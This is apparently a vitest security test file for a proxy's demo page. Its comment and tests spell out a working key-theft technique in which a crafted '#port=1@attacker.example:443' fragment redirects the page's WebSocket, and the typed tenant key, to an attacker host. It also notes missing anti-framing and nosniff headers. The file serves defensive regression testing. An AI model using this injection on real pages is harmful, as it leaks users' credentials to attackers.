import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium, type Chromium } from '../calls/chromium.js';
import { startTestProxy, type TestProxy } from '../support/harness.js';

/**
 * Adversarial review of the HTTP surface (2026-12-06): the demo page (`server.demo: true`,
 * GET /demo on the admin listener).
 *
 * Sound: every text from the model, a transcript, an error message or the URL reaches the page
 * through `textContent` (no HTML sink), and the page holds no key of its own.
 *
 * Not sound:
 *  - `#port=` is pasted into the WebSocket URL unchecked: 'ws://' + location.hostname + ':' + port +
 *    '/v1/realtime…'. A port of `1@attacker.example:443` makes the URL's host the attacker's (the
 *    page's host becomes user-info), and the CSP allows it (`connect-src ws: wss:`: any host). A
 *    link to the operator's own demo page thus sends the tenant key the visitor types (or a
 *    password manager fills in) to the attacker, as the `openai-insecure-api-key.` subprotocol.
 *  - The page may be framed by any site (no `frame-ancestors`, which `default-src` does not cover,
 *    and no X-Frame-Options): a key-entry form under someone else's frame (clickjacking), and with
 *    the `#port=` trick a framing page need not even be a link. No `X-Content-Type-Options: nosniff`.
 */

describe('adversary: the demo page', () => {
  let tp: TestProxy;
  let chromium: Chromium | null = null;
  let attacker: Server | null = null;
  const stolen: IncomingHttpHeaders[] = [];

  beforeAll(async () => {
    tp = await startTestProxy({ tenants: { acme: {} }, config: { server: { demo: true } } });
  });

  afterAll(async () => {
    await chromium?.close();
    await new Promise<void>((resolve) => (attacker ? attacker.close(() => resolve()) : resolve()));
    await tp?.stop();
  });

  it('cannot be framed by another site and is not content-sniffed (CSP frame-ancestors or X-Frame-Options; nosniff)', async () => {
    const res = await fetch(`${tp.adminUrl}/demo`);
    const body = await res.text();
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(body.startsWith('<!doctype html>')).toBe(true);
    // The page holds no credential of its own.
    expect(body).not.toContain(tp.key('acme'));
    const csp = res.headers.get('content-security-policy') ?? '';
    const framing = { frameAncestorsNone: /(^|;)\s*frame-ancestors 'none'\s*(;|$)/.test(csp), xFrameOptions: res.headers.get('x-frame-options') };
    // Today: { frameAncestorsNone: false, xFrameOptions: null }.
    expect(framing.frameAncestorsNone || framing.xFrameOptions === 'DENY', JSON.stringify(framing)).toBe(true);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it("a crafted #port= does not send the typed tenant key to another host", async () => {
    // The attacker's WebSocket endpoint: records the upgrade's headers, answers nothing.
    attacker = createServer((_req, res) => res.end());
    attacker.on('upgrade', (req, socket) => {
      stolen.push(req.headers);
      socket.destroy();
    });
    await new Promise<void>((resolve) => attacker!.listen(0, '127.0.0.1', () => resolve()));
    const attackerPort = (attacker.address() as { port: number }).port;
    chromium = await launchChromium();
    // The link an attacker sends: the operator's own demo page, the port parameter carrying another host.
    const url = `${tp.adminUrl}/demo#port=${encodeURIComponent(`1@127.0.0.1:${attackerPort}`)}`;
    const key = tp.key('acme');
    // The visitor types their key and presses Talk; waits (bounded) until the page settles: "closed"
    // (the connection ended), "done" (a turn through the proxy), or a page that refused the port and
    // never went to "connecting".
    const state = await chromium.evaluate<string>(
      url,
      `(async () => {
        document.getElementById('key').value = ${JSON.stringify(key)};
        document.getElementById('form').requestSubmit();
        for (let i = 0; i < 600; i++) {
          const s = document.body.dataset.state;
          if (s !== 'connecting' && s !== 'talking') return s;
          await new Promise((r) => setTimeout(r, 25));
        }
        return 'stuck:' + document.body.dataset.state;
      })()`,
    );
    // Today the page reaches "closed" after the attacker's endpoint dropped the connection.
    expect(state).not.toMatch(/^stuck/);
    // Today: one upgrade with 'sec-websocket-protocol: realtime, openai-insecure-api-key.rpk_test_acme_…'.
    expect(stolen.map((h) => h['sec-websocket-protocol'] ?? '')).toEqual([]);
  }, 60_000);
});
